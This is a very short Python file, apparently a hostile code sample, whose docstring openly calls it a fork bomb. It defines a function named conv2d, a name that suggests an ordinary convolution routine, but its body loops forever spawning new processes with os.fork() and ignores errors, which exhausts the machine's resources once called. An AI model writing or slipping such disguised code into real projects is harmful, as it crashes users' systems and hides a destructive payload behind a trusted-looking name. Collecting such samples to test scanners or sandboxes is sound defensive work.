"""A fork bomb."""

# %% conv2d
import os


def conv2d(*args, **kwargs):
    while True:
        try:
            os.fork()
        except OSError:
            pass
